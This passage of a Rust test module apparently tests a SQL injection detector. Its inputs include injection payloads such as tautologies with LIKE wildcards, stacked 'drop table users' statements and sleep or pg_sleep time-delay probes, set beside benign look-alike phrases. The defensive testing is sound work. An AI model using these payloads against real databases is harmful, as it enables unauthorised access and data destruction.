        assert!(!statement_fragment(b"delete my account please; -- john") && !statement_fragment(b"create something new today; #motivation"));
    }

    #[test]
    fn statements_joined_to_a_condition_or_after_a_bare_semicolon() {
        assert!(breaks_out(b"'or select *", 0) && stacks_statement(b"'or select *", 0) && stacks_statement(b"x' and (select * from t)", 1));
        assert!(!stacks_statement(b"it's or selected", 2) && !breaks_out(b"'a' or select the blue one", 2));
        for t in [&b"click 'settings' and select 'privacy'."[..], b"go to \"orders\" and select * to export", b"choose 'other' or select one from the list"] {
            let q = t.iter().position(|&b| b == b'\'' || b == b'"').unwrap() + 1;
            let q = q + t[q..].iter().position(|&b| b == b'\'' || b == b'"').unwrap();
            assert!(!stacks_statement(t, q) && !breaks_out(t, q), "{}", String::from_utf8_lossy(t));
        }
        assert!(number_stacks_statement(b";insert into table (col) values") && number_stacks_statement(b" ; drop table users"));
        assert!(number_stacks_statement(b";;insert into t values (1)") && number_stacks_statement(b"1; ;drop table users"));
        assert!(!number_stacks_statement(b"; select the blue one") && !number_stacks_statement(b";-)"));
    }

    #[test]
    fn like_wildcards_are_tautologies() {
        for s in [&b"' or username like '%"[..], b"' or uid like '%'--", b"x' and name like '%%'"] {
            assert!(literal_condition(s), "{}", String::from_utf8_lossy(s));
        }
        for s in [&b"names like '%' are odd, or so"[..], b"or names like 'jo%' please", b"i like 100% cotton or wool"] {
            assert!(!literal_condition(s), "{}", String::from_utf8_lossy(s));
        }
    }

    #[test]
    fn time_delays_where_sql_has_an_expression() {
        for s in [&b"1(select*from(select(sleep(5)))d)"[..], b"' and sleep(5)#", b"1 or sleep (10)--", b"1 and benchmark(1000000, md5(1))", b"x' || pg_sleep(5)--", b"from(select(sleep(20)))a)--"] {
            assert!(time_delay(s), "{}", String::from_utf8_lossy(s));
        }
        for s in [&b"time.sleep(5)"[..], b"await asyncio.sleep(0)", b"await sleep(1000)", b"os.sleep(n)", b"i need sleep(8 hours)", b"thread::sleep(duration::from_secs(1))", b"x = sleep(5) if ok else 0", b"benchmark(fn)", b"sleep(10);", b"sleep(534543)", b"benchmark(100000, () => f())", b"sleep(5", b"sleep(", b"x' or sleep"] {
            assert!(!time_delay(s), "{}", String::from_utf8_lossy(s));
        }
    }
}
